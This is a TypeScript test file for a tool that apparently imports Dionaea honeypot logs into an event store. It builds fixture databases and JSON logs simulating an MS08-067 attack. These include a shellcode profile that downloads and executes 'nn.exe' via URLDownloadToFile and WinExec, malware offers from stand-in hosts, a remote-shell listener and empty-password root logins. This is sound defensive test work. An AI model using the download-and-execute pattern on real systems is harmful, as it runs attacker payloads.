// Dionaea paths the real database in ../shared/data does not exercise: an MS08-067 attack (DCERPC
// request of NetPathCanonicalize -> exploit.attempt, libemu profile -> shellcode.detected, offer and
// download), MySQL commands, p0f, a child connection; and the log_json / log_incident JSON outputs.
// The logsql database is made at test time with the real database's own schema.
import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { runCli, writeConfig } from '../helpers/apiary-process.js';
import { DATA } from '../helpers/shared-data.js';
import { SqliteStore } from '../../src/store/sqlite/sqlite-store.js';
import type { ApiaryEvent } from '../../src/events/catalogue.js';
import { removeScratch, scratchDir } from '../helpers/scratch.js';

after(removeScratch);

const REAL = join(DATA, 'dionaea/rebound-2024-dionaea.sqlite');
const SRVSVC = '4b324fc8-1670-01d3-1278-5a47bf6ee188';
const NDR = '8a885d04-1ceb-11c9-9fe8-08002b104860';
const T = 1_300_000_000.25;

async function imported(args: string[]): Promise<{ code: number; stdout: string; events: ApiaryEvent[] }> {
  const dir = scratchDir('apiary-dio-');
  const r = await runCli(['import', 'dionaea', ...args, '--config', writeConfig(dir, {})], { allowFail: true });
  const store = new SqliteStore(join(dir, 'data', 'apiary.db'), { readonly: true });
  const events = await store.query({});
  await store.close();
  return { ...r, events };
}

test('Dionaea logsql: an MS08-067 attack with shellcode, offer and download; MySQL; p0f; child connections', { skip: !existsSync(REAL) }, async () => {
  const dir = scratchDir('apiary-diodb-');
  const path = join(dir, 'dionaea.sqlite');
  const real = new Database(REAL, { readonly: true });
  const schema = real.prepare("SELECT sql FROM sqlite_master WHERE type IN ('table') AND sql IS NOT NULL").all() as { sql: string }[];
  const lookups = ['dcerpcservices', 'dcerpcserviceops', 'mysql_command_ops'].map((t) => ({ t, rows: real.prepare(`SELECT * FROM ${t}`).all() as Record<string, unknown>[] }));
  real.close();
  const db = new Database(path);
  for (const { sql } of schema) db.exec(sql);
  for (const { t, rows } of lookups) {
    for (const r of rows) db.prepare(`INSERT INTO ${t} (${Object.keys(r).join(',')}) VALUES (${Object.keys(r).map(() => '?').join(',')})`).run(...Object.values(r));
  }
  const conn = db.prepare('INSERT INTO connections (connection, connection_type, connection_transport, connection_protocol, connection_timestamp, connection_root, connection_parent, local_host, local_port, remote_host, remote_hostname, remote_port) VALUES (?,?,?,?,?,?,?,?,?,?,?,?)');
  conn.run(1, 'accept', 'tcp', 'smbd', T, 1, null, '10.1.1.5', 445, '10.1.7.23', '', 1040);
  conn.run(2, 'connect', 'tcp', 'httpd', T + 3, 1, 1, '10.1.1.5', 38000, '198.51.100.80', '', 80);
  conn.run(3, 'accept', 'tcp', 'mysqld', T + 60, 3, null, '10.1.1.5', 3306, '203.0.113.4', '', 50000);
  conn.run(4, 'listen', 'tcp', 'remoteshell', T + 4, 1, 1, '10.1.1.5', 4444, '', '', 0);
  db.prepare('INSERT INTO dcerpcbinds (connection, dcerpcbind_uuid, dcerpcbind_transfersyntax) VALUES (1, ?, ?)').run(SRVSVC, NDR);
  db.prepare('INSERT INTO dcerpcrequests (connection, dcerpcrequest_uuid, dcerpcrequest_opnum) VALUES (1, ?, 31)').run(SRVSVC);
  const profile = JSON.stringify([
    { call: 'LoadLibraryA', args: ['urlmon'], return: '0x7df20000' },
    { call: 'URLDownloadToFile', args: ['', 'http://198.51.100.80/nn.exe', '54.scr', '0', '0'], return: '0' },
    { call: 'WinExec', args: ['54.scr', '895'], return: '32' },
  ]);
  db.prepare('INSERT INTO emu_profiles (connection, emu_profile_json) VALUES (1, ?)').run(profile);
  db.prepare("INSERT INTO offers (connection, offer_url) VALUES (1, 'http://198.51.100.80/nn.exe'), (1, 'tftp://10.1.7.23/x.exe')").run();
  db.prepare("INSERT INTO downloads (connection, download_url, download_md5_hash) VALUES (2, 'http://198.51.100.80/nn.exe', '0123456789abcdef0123456789abcdef')").run();
  db.prepare("INSERT INTO logins (connection, login_username, login_password) VALUES (3, 'root', '')").run();
  db.prepare('INSERT INTO mysql_commands (mysql_command, connection, mysql_command_cmd) VALUES (1, 3, 3)').run();
  db.prepare("INSERT INTO mysql_command_args (mysql_command, mysql_command_arg_index, mysql_command_arg_data) VALUES (1, 0, 'SELECT * FROM users')").run();
  db.prepare("INSERT INTO p0fs (connection, p0f_genre, p0f_link, p0f_detail, p0f_uptime, p0f_tos, p0f_dist, p0f_nat, p0f_fw) VALUES (1, 'Windows', 'ethernet/modem', 'XP SP1+, 2000 SP3', -1, '', 2, 0, 0)").run();
  db.close();

  const { code, stdout, events } = await imported([path]);
  assert.equal(code, 0, stdout);
  const smb = events.filter((e) => e.src_ip === '10.1.7.23');
  assert.deepEqual(
    smb.map((e) => [e.type, e.payload]),
    [
      ['connection.open', { transport: 'tcp' }],
      ['client.os', { genre: 'Windows', detail: 'XP SP1+, 2000 SP3', link: 'ethernet/modem', distance: 2, nat: false, firewall: false }],
      ['rpc.bind', { interface_uuid: SRVSVC, transfer_syntax: NDR, interface: 'srvsvc' }],
      ['rpc.request', { interface_uuid: SRVSVC, opnum: 31, interface: 'srvsvc', operation: 'NetPathCanonicalize', vuln: 'MS08-067' }],
      ['exploit.attempt', { name: 'MS08-067', cve: 'CVE-2008-4250', detail: 'SRVSVC NetPathCanonicalize (opnum 31)' }],
      ['shellcode.detected', { urls: ['http://198.51.100.80/nn.exe'], commands: ['54.scr'] }],
      ['file.download', { url: 'tftp://10.1.7.23/x.exe', outcome: 'failed', reason: 'offered by the attacker; Dionaea recorded no completed download' }],
    ],
  );
  assert.ok(smb.every((e) => e.protocol === 'smb' && e.dst_port === 445 && e.time === new Date(T * 1000).toISOString().replace(/\.\d+Z/, '.250Z')));
  const dl = events.find((e) => e.type === 'file.download' && (e.payload as { outcome: string }).outcome === 'stored')!;
  assert.deepEqual(dl.payload, { url: 'http://198.51.100.80/nn.exe', md5: '0123456789abcdef0123456789abcdef', outcome: 'stored' });
  assert.equal(dl.src_ip, '198.51.100.80');
  assert.deepEqual((dl.source?.record as { connection_parent: number; connection_root: number } & Record<string, unknown>).connection, 2);
  const child = events.find((e) => e.type === 'connection.open' && e.src_ip === '198.51.100.80')!;
  assert.deepEqual([(child.source!.record as { connection_root: number }).connection_root, (child.source!.record as { connection_parent: number }).connection_parent], [1, 1], 'the attack tree is kept');
  assert.deepEqual(events.filter((e) => e.protocol === 'mysql').map((e) => [e.type, e.payload]), [
    ['connection.open', { transport: 'tcp' }],
    ['auth.attempt', { method: 'native', username: 'root', password: '', success: true }],
    ['query', { query: 'SELECT * FROM users' }],
  ]);
  assert.match(stdout, /no event for 1 x listening socket \(no peer\)/);
  assert.match(stdout, /no event for 1 x offer followed by a download of the same URL/);
});

test('Dionaea log_json and log_incident lines', async () => {
  const dir = scratchDir('apiary-diojson-');
  const logJson = join(dir, 'dionaea.json');
  writeFileSync(
    logJson,
    [
      { connection: { protocol: 'mssqld', transport: 'tcp', type: 'accept' }, dst_ip: '10.0.0.5', dst_port: 1433, src_hostname: '', src_ip: '192.0.2.9', src_port: 40000, timestamp: '2024-01-01T12:00:00.123456', credentials: [{ username: 'sa', password: '' }], p0f: { genre: 'Linux', detail: '2.6.x' } },
      { connection: { protocol: 'ftpd', transport: 'tcp', type: 'accept' }, dst_ip: '10.0.0.5', dst_port: 21, src_ip: '192.0.2.10', src_port: 40001, timestamp: '2024-01-01T12:00:01.000000', credentials: { username: ['anonymous', 'ftp'], password: ['a@b', ''] } },
    ]
      .map((o) => JSON.stringify(o))
      .join('\n') + '\n',
  );
  const incidents = join(dir, 'dionaea-incidents.json');
  const con = { id: 'c0ffee', local_ip: '10.0.0.5', local_port: 445, remote_ip: '192.0.2.11', remote_port: 1050, protocol: 'smbd', transport: 'tcp' };
  writeFileSync(
    incidents,
    [
      { name: 'dionaea', origin: 'dionaea.connection.tcp.accept', timestamp: '2024-01-01T12:00:02.000000', data: { connection: con } },
      { name: 'dionaea', origin: 'dionaea.modules.python.smb.dcerpc.request', timestamp: '2024-01-01T12:00:03.000000', data: { connection: con, uuid: SRVSVC, opnum: 32 } },
      { name: 'dionaea', origin: 'dionaea.download.complete.hash', timestamp: '2024-01-01T12:00:04.000000', data: { connection: con, url: 'http://198.51.100.2/a.exe', md5hash: 'ffffffffffffffffffffffffffffffff' } },
      { name: 'dionaea', origin: 'dionaea.connection.free', timestamp: '2024-01-01T12:00:05.000000', data: { connection: con } },
    ]
      .map((o) => JSON.stringify(o))
      .join('\n') + '\nnot json\n',
  );
  const { code, stdout, events } = await imported([logJson, incidents]);
  assert.equal(code, 3, stdout);
  assert.match(stdout, /skipped 1 x invalid JSON \(first at line 5\)/);
  assert.deepEqual(events.map((e) => [e.type, e.protocol, e.src_ip, e.payload]), [
    ['connection.open', 'mssql', '192.0.2.9', { transport: 'tcp' }],
    ['auth.attempt', 'mssql', '192.0.2.9', { method: 'native', username: 'sa', password: '', success: true }],
    ['client.os', 'mssql', '192.0.2.9', { genre: 'Linux', detail: '2.6.x' }],
    ['connection.open', 'ftp', '192.0.2.10', { transport: 'tcp' }],
    ['auth.attempt', 'ftp', '192.0.2.10', { method: 'native', username: 'anonymous', password: 'a@b', success: false }],
    ['auth.attempt', 'ftp', '192.0.2.10', { method: 'native', username: 'ftp', password: '', success: false }],
    ['connection.open', 'smb', '192.0.2.11', { transport: 'tcp' }],
    ['rpc.request', 'smb', '192.0.2.11', { interface_uuid: SRVSVC, opnum: 32, interface: 'srvsvc', operation: 'NetPathCompare', vuln: 'MS08-067' }],
    ['exploit.attempt', 'smb', '192.0.2.11', { name: 'MS08-067', cve: 'CVE-2008-4250', detail: 'SRVSVC NetPathCompare (opnum 32)' }],
    ['file.download', 'smb', '192.0.2.11', { url: 'http://198.51.100.2/a.exe', md5: 'ffffffffffffffffffffffffffffffff', outcome: 'stored' }],
  ]);
  assert.equal(new Set(events.filter((e) => e.src_ip === '192.0.2.11').map((e) => e.session)).size, 1, 'one session per incident connection id');
});

test('Dionaea names that are Object property names ("constructor", "__proto__") and non-text hosts are unknown names, not a crash', { skip: !existsSync(REAL) }, async () => {
  const dir = scratchDir('apiary-dio-proto-');
  // log_json and log_incident: a protocol and a DCERPC interface named after Object's own properties.
  const incidents = join(dir, 'dionaea-incidents.json');
  const con = (protocol: string) => ({ id: `c-${protocol}`, local_ip: '10.0.0.5', local_port: 445, remote_ip: '192.0.2.21', remote_port: 1050, protocol, transport: 'tcp' });
  writeFileSync(
    incidents,
    [
      { name: 'dionaea', origin: 'dionaea.connection.tcp.accept', timestamp: '2024-01-01T12:00:02.000000', data: { connection: con('constructor') } },
      { name: 'dionaea', origin: 'dionaea.modules.python.smb.dcerpc.bind', timestamp: '2024-01-01T12:00:03.000000', data: { connection: con('smbd'), uuid: '__proto__' } },
      { name: 'dionaea', origin: 'dionaea.modules.python.smb.dcerpc.request', timestamp: '2024-01-01T12:00:03.000000', data: { connection: con('smbd'), uuid: 'constructor', opnum: 1 } },
      { name: 'dionaea', origin: 'dionaea.connection.tcp.accept', timestamp: '2024-01-01T12:00:04.000000', data: { connection: con('smbd') } },
    ]
      .map((o) => JSON.stringify(o))
      .join('\n') + '\n',
  );
  // logsql: a request to an interface named "constructor", an operation whose bulletin is "toString",
  // and a connection whose remote host is a number; the rows after them are still imported.
  const path = join(dir, 'dionaea.sqlite');
  const real = new Database(REAL, { readonly: true });
  const schema = real.prepare("SELECT sql FROM sqlite_master WHERE type IN ('table') AND sql IS NOT NULL").all() as { sql: string }[];
  real.close();
  const db = new Database(path);
  for (const { sql } of schema) db.exec(sql);
  const conn = db.prepare('INSERT INTO connections (connection, connection_type, connection_transport, connection_protocol, connection_timestamp, connection_root, connection_parent, local_host, local_port, remote_host, remote_hostname, remote_port) VALUES (?,?,?,?,?,?,?,?,?,?,?,?)');
  conn.run(1, 'accept', 'tcp', 'constructor', T, 1, null, '10.1.1.5', 445, '10.1.7.23', '', 1040);
  conn.run(2, 'accept', 'tcp', 'smbd', T + 1, 2, null, '10.1.1.5', 445, 12345, '', 1041);
  conn.run(3, 'accept', 'tcp', 'mysqld', T + 2, 3, null, '10.1.1.5', 3306, '203.0.113.4', '', 50000);
  db.prepare("INSERT INTO dcerpcserviceops (dcerpcservice, dcerpcserviceop_opnum, dcerpcserviceop_name, dcerpcserviceop_vuln) VALUES (1, 7, 'Op', 'toString')").run();
  db.prepare("INSERT INTO dcerpcservices (dcerpcservice, dcerpcservice_uuid, dcerpcservice_name) VALUES (1, 'aaaaaaaa-0000-0000-0000-000000000000', 'X')").run();
  db.prepare("INSERT INTO dcerpcrequests (connection, dcerpcrequest_uuid, dcerpcrequest_opnum) VALUES (1, 'constructor', 1), (1, 'aaaaaaaa-0000-0000-0000-000000000000', 7)").run();
  db.prepare("INSERT INTO logins (connection, login_username, login_password) VALUES (3, 'root', 'x')").run();
  db.close();

  const { code, stdout, events } = await imported([incidents, path]);
  assert.ok(code === 0 || code === 3, stdout);
  assert.doesNotMatch(stdout, /internal error|TypeError/);
  const opens = events.filter((e) => e.type === 'connection.open');
  assert.ok(opens.some((e) => e.protocol === 'constructor'), 'an unknown protocol keeps its own name');
  assert.ok(events.some((e) => e.type === 'rpc.request' && (e.payload as { interface_uuid: string }).interface_uuid === 'constructor' && !('interface' in (e.payload as object))));
  const exploit = events.find((e) => e.type === 'exploit.attempt' && (e.payload as { name: string }).name === 'toString');
  assert.ok(exploit && !('cve' in (exploit.payload as object)), 'a bulletin named toString has no CVE');
  assert.ok(events.some((e) => e.type === 'auth.attempt' && e.src_ip === '203.0.113.4'), 'rows after the odd ones are imported');
  assert.ok(!events.some((e) => e.src_ip === '12345'));
});

test('Dionaea logsql: a connection without a timestamp is skipped with that reason, not stored at 1970; its rows say why', async () => {
  const dir = scratchDir('apiary-diots-');
  const path = join(dir, 'dionaea.sqlite');
  const db = new Database(path);
  db.exec(`CREATE TABLE connections (connection INTEGER PRIMARY KEY, connection_type TEXT, connection_transport TEXT, connection_protocol TEXT,
    connection_timestamp INTEGER, connection_root INTEGER, connection_parent INTEGER, local_host TEXT, local_port INTEGER, remote_host TEXT, remote_hostname TEXT, remote_port INTEGER);
    CREATE TABLE logins (login INTEGER PRIMARY KEY, connection INTEGER, login_username TEXT, login_password TEXT);`);
  const conn = db.prepare('INSERT INTO connections VALUES (?,?,?,?,?,?,?,?,?,?,?,?)');
  conn.run(1, 'accept', 'tcp', 'mssqld', T, 1, null, '10.1.1.5', 1433, '203.0.113.4', '', 50000);
  conn.run(2, 'accept', 'tcp', 'mssqld', null, 2, null, '10.1.1.5', 1433, '203.0.113.5', '', 50001);
  conn.run(3, 'accept', 'tcp', 'mssqld', '2011-03-13 07:06:40', 3, null, '10.1.1.5', 1433, '203.0.113.6', '', 50002);
  db.prepare("INSERT INTO logins (connection, login_username, login_password) VALUES (2, 'sa', ''), (9, 'sa', 'x')").run();
  db.close();
  const { code, stdout, events } = await imported([path]);
  assert.equal(code, 3, stdout);
  assert.deepEqual(events.map((e) => [e.src_ip, e.time]), [['203.0.113.6', '2011-03-13T07:06:40.000Z'], ['203.0.113.4', '2011-03-13T07:06:40.250Z']]);
  assert.match(stdout, /skipped 1 x missing or unreadable timestamp \(first at connections row 2\)/);
  assert.match(stdout, /skipped 1 x logins row whose connection has no timestamp \(first at logins row 1\)/);
  assert.match(stdout, /skipped 1 x logins row whose connection is missing \(first at logins row 2\)/);
});
